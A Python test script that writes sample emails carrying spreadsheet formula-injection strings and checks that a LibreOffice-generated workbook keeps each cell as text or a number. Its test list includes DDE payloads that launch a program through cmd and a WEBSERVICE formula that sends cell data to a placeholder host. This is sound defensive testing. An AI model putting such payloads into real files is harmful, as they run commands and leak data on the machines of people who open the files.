#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
# Usage: spreadsheet.py mails FOLDER      mails for wrap.py, a text to be careful with in each
#        spreadsheet.py compare CSV XLSX  each cell, of a workbook that LibreOffice has made
import base64
import csv
import re
import sys
import xml.etree.ElementTree
import zipfile

TEXTS = ("=1+1", "+1+1", "-1+2", "@SUM(1;2)", '=HYPERLINK("http://x.example/";"a")', "=cmd|' /C calc'!A1",
         '=WEBSERVICE("http://x.example/"&A1)', '=DDE("cmd";"/C calc";"x")', "\t=1+1", "'=1+1", "0012", "1e5", "123e45",
         "12345678901234567890", "1/2", "12:30", "2026-11-23", "23.11.2026", "1,5", "1.5", "1.234", "100%", "$5", "0x10",
         "TRUE", "Jan 5", "Grüße, \"Welt\" 漢字 \U0001f600", " blanks ", "a\nb", "a;b\tc", "_x0041_", "<a>&amp;", "#REF!", "\\")
NUMBERS = {"email_n", "src_port", "dst_port", "src_asn", "target_port", "target_asn", "rcpt_count", "rcpt_rejected", "size", "complete",
           "missing_bytes", "reply", "urls", "attachments", "duration", "bytes_from_src", "bytes_from_dst",
           "packets_from_src", "packets_from_dst", "requests", "emails", "proxied_port", "capture_n"}
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def make_mails(folder):
    for n, text in enumerate(TEXTS):
        word = base64.b64encode(text.encode()).decode()
        with open("%s/%02d.eml" % (folder, n), "w", newline="") as file:
            file.write("From: =a@b.example\r\nSubject: =?utf-8?B?%s?=\r\nX-Mailer: +%d\r\n\r\nBody %d\r\n" % (word, n, n))


def column(name):
    n = 0
    for letter in re.match("[A-Z]+", name).group():
        n = n * 26 + ord(letter) - ord("A") + 1
    return n - 1


def text_of(element):
    """Of a shared string; the format has _x0009_ for what XML cannot say."""
    text = "".join(t.text or "" for t in element.iter(SHEET + "t"))
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def read(path):
    """{(row, column): (kind, value)}; kinds are formula, text and number."""
    cells = {}
    with zipfile.ZipFile(path) as book:
        strings = [text_of(s) for s in xml.etree.ElementTree.fromstring(book.read("xl/sharedStrings.xml"))]
        sheet = xml.etree.ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    for row in sheet.iter(SHEET + "row"):
        for c in row:
            formula, value = c.find(SHEET + "f"), c.findtext(SHEET + "v")
            if formula is not None:
                cell = "formula", formula.text
            elif value is None:
                continue
            elif c.get("t") == "s":
                cell = "text", strings[int(value)]
            else:
                cell = c.get("t") == "n" and "number" or c.get("t"), value
            cells[int(row.get("r")) - 1, column(c.get("r"))] = cell
    return cells


def compare(records, path):
    cells, wrong = read(path), 0
    with open(records, newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file, strict=True))
    for i, row in enumerate(rows):
        for j, want in enumerate(row):
            kind, have = cells.pop((i, j), ("text", ""))
            if i and want and rows[0][j] in NUMBERS:
                good = kind == "number" and float(have) == float(want)
            else:
                good = kind == "text" and have == want
            if not good:
                wrong += 1
                print("line %d, %s: %r is %s %r" % (i + 1, rows[0][j], want, kind, have))
    if cells:
        print("cells beside:", cells)
    return bool(wrong or cells)


if sys.argv[1] == "mails":
    make_mails(sys.argv[2])
else:
    sys.exit(compare(*sys.argv[2:]))
